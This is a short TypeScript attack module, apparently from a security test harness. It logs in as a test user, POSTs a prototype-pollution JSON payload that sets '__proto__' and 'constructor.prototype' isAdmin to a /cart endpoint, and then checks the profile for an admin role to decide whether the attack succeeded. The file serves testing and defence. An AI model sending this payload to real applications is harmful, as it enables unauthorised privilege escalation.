import type { Outcome, Surface } from '../../src/attack/attack.ts';
import { ADA } from '../../src/browser.ts';

/** As text: in JavaScript, `{ __proto__: … }` would not be a property. */
const poison =
  '{"item":"x","__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}';

export async function attack({ person }: Surface): Promise<Outcome> {
  const attacker = person('attacker');
  await attacker.logIn(ADA);
  const headers = { 'content-type': 'application/json' };
  const { status } = await attacker.send('POST', '/cart', { body: poison, headers });
  await attacker.get('/profile'); // what was stored is loaded

  const { user } = (await attacker.get('/profile')).json;
  const won = user?.roles.includes('admin') ?? false;
  const evidence = won
    ? `${user?.email}, a member, is an admin: every session inherits it now`
    : `a record with "__proto__" in it makes nobody an admin (the request was answered ${status})`;
  return { won, evidence };
}
